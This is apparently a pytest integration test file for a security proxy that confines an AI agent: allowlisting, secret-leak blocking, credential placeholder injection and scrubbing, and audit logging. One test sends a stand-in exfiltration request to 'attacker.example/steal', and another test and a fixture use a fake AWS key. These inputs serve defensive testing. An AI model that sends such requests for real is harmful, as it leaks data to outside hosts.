"""Requests through the real proxy: allow, block, flag, inject, scrub; both sides checked."""

from __future__ import annotations

import json
import time
from urllib.parse import unquote

import httpx
import pytest

from tests.integration.proxy.conftest import (
    PLACEHOLDER,
    REAL_KEY,
    h2_context,
    send_placeholder_everywhere,
)
from tests.support.proxy import ProxyProcess
from tests.support.upstream import Upstream

pytestmark = pytest.mark.integration
AWS_KEY = "AKIAQ4MZVKD7TR3XW5PL"


def test_allowed_https_request_reaches_upstream_and_is_audited(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    response = client.get(f"https://api.anthropic.com:{upstream.tls_port}/v1/models?x=1")
    assert response.status_code == 200
    assert response.json() == {"ok": True, "path": "/v1/models?x=1"}
    [seen] = upstream.received
    assert seen.path == "/v1/models?x=1"
    assert seen.host == f"api.anthropic.com:{upstream.tls_port}"
    line = proxy.wait_for_audit(lambda r: r["path"] == "/v1/models?x=1")
    assert line["kind"] == "http"  # the decision, written before the request left
    assert line["verdict"] == "allow"
    assert line["host"] == "api.anthropic.com"
    assert line["port"] == upstream.tls_port
    assert line["scheme"] == "https"
    assert line["cage"] == "itest"
    closing = proxy.wait_for_audit(
        lambda r: r["kind"] == "response" and r["flow_id"] == line["flow_id"]
    )
    assert closing["extra"] == {"status": 200}
    assert closing["bytes_in"] == len(response.content)
    assert closing["duration_ms"] > 0


def test_allowed_plain_http_request(client: httpx.Client, upstream: Upstream) -> None:
    response = client.post(f"http://github.com:{upstream.plain_port}/reflect", content=b"hello")
    assert response.status_code == 200
    assert response.content == b"hello"
    assert upstream.received[-1].scheme == "http"
    assert upstream.received[-1].body == b"hello"


def test_http2_from_agent_to_upstream(proxy: ProxyProcess, upstream: Upstream) -> None:
    upstream.clear()
    verify = h2_context(proxy.ca_cert)
    with httpx.Client(proxy=proxy.url, verify=verify, http2=True, timeout=10) as h2:
        responses = [
            h2.post(f"https://github.com:{upstream.tls_port}/reflect/{i}", content=b"%d" % i)
            for i in range(3)
        ]
    assert [r.http_version for r in responses] == ["HTTP/2"] * 3
    assert [r.content for r in responses] == [b"0", b"1", b"2"]
    assert {r.http_version for r in upstream.received} == {"2"}


def test_host_not_on_allowlist_is_blocked_before_upstream(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    response = client.post(f"https://attacker.example:{upstream.tls_port}/steal", content=b"x")
    assert response.status_code == 403
    body = response.json()
    assert body["blocked"] is True
    assert body["inspector"] == "domain"
    assert body["host"] == "attacker.example"
    assert upstream.received == []
    line = proxy.wait_for_audit(lambda r: r["host"] == "attacker.example")
    assert line["verdict"] == "block"
    assert line["inspector"] == "domain"


def test_leaked_aws_key_in_body_is_blocked(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    response = client.post(
        f"https://github.com:{upstream.tls_port}/gist", json={"note": f"key {AWS_KEY}"}
    )
    assert response.status_code == 403
    assert "aws" in response.json()["reason"].lower()
    assert upstream.received == []
    line = proxy.wait_for_audit(lambda r: r["path"] == "/gist")
    assert line["verdict"] == "block"
    assert AWS_KEY not in proxy.audit_text()


def test_flagged_request_is_forwarded_and_audited(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    response = client.get(f"https://github.com:{upstream.tls_port}/flagme")
    assert response.status_code == 200
    assert upstream.received[-1].path == "/flagme"
    line = proxy.wait_for_audit(lambda r: r["path"] == "/flagme")
    assert line["verdict"] == "flag"
    assert line["inspector"] == "tripwire"
    assert line["rules"] == ["flagme"]


def test_inspector_that_raises_blocks(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    response = client.post(f"https://github.com:{upstream.tls_port}/boom", content=b"payload")
    assert response.status_code == 403
    assert response.json()["inspector"] == "tripwire"
    assert upstream.received == []
    line = proxy.wait_for_audit(lambda r: r["path"] == "/boom")
    assert line["verdict"] == "block"
    assert "exploded" not in proxy.audit_text()


def test_placeholder_is_injected_for_its_host_and_scrubbed_on_the_way_back(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    response, seen = send_placeholder_everywhere(client, upstream)
    assert seen.header("x-api-key") == REAL_KEY
    assert REAL_KEY.encode() in seen.body
    assert PLACEHOLDER.encode() not in seen.body
    # The query is a place this rule allows; the path never is one.
    path, _, query = unquote(seen.path).partition("?")
    assert (path, query) == (f"/reflect/{PLACEHOLDER}", f"key={REAL_KEY}")
    # The upstream echoed the real value; the agent gets the placeholder back.
    assert REAL_KEY.encode() not in response.content
    assert PLACEHOLDER.encode() in response.content
    proxy.wait_for_audit(lambda r: r["path"].startswith("/reflect/"))
    assert REAL_KEY not in proxy.audit_text()


def test_compressed_response_is_scrubbed(client: httpx.Client, upstream: Upstream) -> None:
    response = client.post(
        f"https://api.anthropic.com:{upstream.tls_port}/gzip-reflect",
        headers={"authorization": f"Bearer {PLACEHOLDER}"},
        content=f"token={PLACEHOLDER}".encode(),
    )
    assert upstream.received[-1].body == f"token={REAL_KEY}".encode()
    assert response.status_code == 200
    assert response.text == f"token={PLACEHOLDER}"


def test_placeholder_to_another_host_is_blocked_and_never_sent(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    response = client.post(
        f"https://github.com:{upstream.tls_port}/exfil",
        headers={"authorization": f"Bearer {PLACEHOLDER}"},
        content=b"hi",
    )
    assert response.status_code == 403
    assert upstream.received == []
    proxy.wait_for_audit(lambda r: r["path"] == "/exfil" and r["verdict"] == "block")
    assert REAL_KEY not in proxy.audit_text()


def test_name_and_port_spellings_are_normalized(client: httpx.Client, upstream: Upstream) -> None:
    response = client.get(
        f"https://api.anthropic.com:{upstream.tls_port}/norm",
        headers={"host": f"API.Anthropic.COM.:{upstream.tls_port}"},
    )
    assert response.status_code == 200
    assert upstream.received[-1].path == "/norm"


def test_audit_log_never_holds_the_real_secret(proxy: ProxyProcess) -> None:
    lines = proxy.audit()
    assert lines, "expected audit lines from the earlier tests"
    assert all(line["v"] == 1 for line in lines)
    assert REAL_KEY not in proxy.audit_text()


def test_every_audit_line_is_the_text_json_dumps_makes(proxy: ProxyProcess) -> None:
    # The proxy writes its lines field by field (AuditRecord.to_json); json.dumps of
    # the same fields is their definition. Lines of the earlier tests: allowed, flagged
    # and blocked requests, their closing lines, connections.
    seen = {(line["kind"], line["verdict"]) for line in proxy.audit()}
    assert {("http", "block"), ("http", "flag"), ("response", "allow")} <= seen
    assert ("connection", "allow") in seen
    for line in proxy.audit_text().splitlines():
        assert line == json.dumps(json.loads(line), separators=(",", ":"), sort_keys=True)


def test_event_stream_is_streamed_and_scrubbed_across_chunks(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    # The upstream splits its answer in the middle of the real key, then pauses.
    payload = f"data: {PLACEHOLDER}\n\n"
    url = f"https://api.anthropic.com:{upstream.tls_port}/sse-reflect"
    received = b""
    first_at = None
    started = time.monotonic()
    with client.stream("POST", url, content=payload.encode()) as response:
        assert response.headers["content-type"] == "text/event-stream"
        for chunk in response.iter_raw():
            if first_at is None and chunk:
                first_at = time.monotonic() - started
            received += chunk
    total = time.monotonic() - started
    assert upstream.received[-1].body == f"data: {REAL_KEY}\n\n".encode()
    assert received == payload.encode()
    # The first half arrived before the upstream's pause ended: not buffered.
    assert first_at is not None and first_at < total - 0.3


def test_large_download_is_streamed(client: httpx.Client, upstream: Upstream) -> None:
    size = 6 * 1024 * 1024
    response = client.get(f"https://github.com:{upstream.tls_port}/bytes/{size}")
    assert response.status_code == 200
    assert len(response.content) == size
    # Streamed with a secret configured: the length may change, so it went chunked.
    assert "content-length" not in response.headers


def test_chunked_response_that_is_only_the_secret_is_scrubbed_whole(
    client: httpx.Client, upstream: Upstream
) -> None:
    # Regression: the held-back value must not end the chunked body early.
    response = client.post(
        f"https://api.anthropic.com:{upstream.tls_port}/chunked-reflect",
        content=PLACEHOLDER.encode(),
    )
    assert upstream.received[-1].body == REAL_KEY.encode()
    assert response.status_code == 200
    assert response.text == PLACEHOLDER
